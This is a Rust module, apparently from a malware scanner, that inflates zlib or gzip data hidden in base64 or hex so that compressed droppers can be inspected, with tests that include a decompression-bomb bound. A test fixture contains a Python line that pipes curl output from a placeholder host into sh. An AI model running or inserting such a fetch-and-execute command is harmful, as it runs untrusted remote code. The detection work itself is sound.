//! Compressed payloads (issue 14): base64 or hex text that decodes to zlib or gzip data is inflated —
//! at most [`codec::MAX_DECODED`] bytes out, one level (the compressed layer sits inside the base64 or
//! hex layer: two in all) — and kept when what comes out is text. `exec(zlib.decompress(b64decode(…)))`
//! droppers and Node's `zlib.inflateSync(Buffer.from(…, 'base64'))` carry their second stage this way.

use super::codec::{self, Codec};

/// The text `bytes` inflate to, and the compression, when they are zlib or gzip data that inflates
/// (possibly truncated at the bound) to mostly printable text.
pub(super) fn inflate(bytes: &[u8]) -> Option<(Codec, String)> {
    let (codec, out) = if is_zlib(bytes) {
        let out = match miniz_oxide::inflate::decompress_to_vec_zlib_with_limit(
            bytes,
            codec::MAX_DECODED,
        ) {
            Ok(out) => out,
            Err(e) => e.output,
        };
        (Codec::Zlib, out)
    } else {
        let body = gzip_body(bytes)?;
        let out = match miniz_oxide::inflate::decompress_to_vec_with_limit(body, codec::MAX_DECODED)
        {
            Ok(out) => out,
            Err(e) => e.output,
        };
        (Codec::Gzip, out)
    };
    if !codec::printable(&out) {
        return None;
    }
    String::from_utf8(out).ok().map(|text| (codec, text))
}

/// A zlib header: deflate, a window of at most 32 KiB, a valid check value.
fn is_zlib(bytes: &[u8]) -> bool {
    let [cmf, flg, ..] = *bytes else {
        return false;
    };
    cmf & 0x0f == 8 && cmf >> 4 <= 7 && (u16::from(cmf) << 8 | u16::from(flg)) % 31 == 0
}

/// The deflate stream of a gzip member (RFC 1952): past the header and its optional fields.
fn gzip_body(bytes: &[u8]) -> Option<&[u8]> {
    if bytes.len() < 18 || bytes[..3] != [0x1f, 0x8b, 8] {
        return None;
    }
    let flags = bytes[3];
    let mut at = 10;
    if flags & 4 != 0 {
        let len = usize::from(*bytes.get(at)?) | usize::from(*bytes.get(at + 1)?) << 8;
        at += 2 + len;
    }
    for flag in [8u8, 16] {
        if flags & flag != 0 {
            at += memchr::memchr(0, bytes.get(at..)?)? + 1;
        }
    }
    if flags & 2 != 0 {
        at += 2;
    }
    bytes.get(at..)
}

#[cfg(test)]
mod tests {
    use super::*;

    const HELLO: &[u8] = b"import os; os.system('curl -s https://example.invalid/x | sh')";

    #[test]
    fn zlib_and_gzip_inflate_to_text() {
        let z = miniz_oxide::deflate::compress_to_vec_zlib(HELLO, 6);
        let (c, text) = inflate(&z).unwrap();
        assert_eq!((c, text.as_bytes()), (Codec::Zlib, HELLO));
        let raw = miniz_oxide::deflate::compress_to_vec(HELLO, 6);
        let mut gz = vec![0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3];
        gz.extend_from_slice(b"x.py\0");
        gz.extend_from_slice(&raw);
        gz.extend_from_slice(&[0; 8]);
        let (c, text) = inflate(&gz).unwrap();
        assert_eq!((c, text.as_bytes()), (Codec::Gzip, HELLO));
    }

    #[test]
    fn other_bytes_and_binary_payloads_are_not_inflated() {
        assert!(inflate(b"plain text, not compressed").is_none());
        assert!(inflate(&[0x78]).is_none());
        let binary: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
        assert!(inflate(&miniz_oxide::deflate::compress_to_vec_zlib(&binary, 6)).is_none());
    }

    #[test]
    fn a_bomb_inflates_to_the_bound_only() {
        let bomb =
            miniz_oxide::deflate::compress_to_vec_zlib(&vec![b'a'; 4 * codec::MAX_DECODED], 9);
        let (_, text) = inflate(&bomb).unwrap();
        assert!(text.len() <= codec::MAX_DECODED);
    }
}
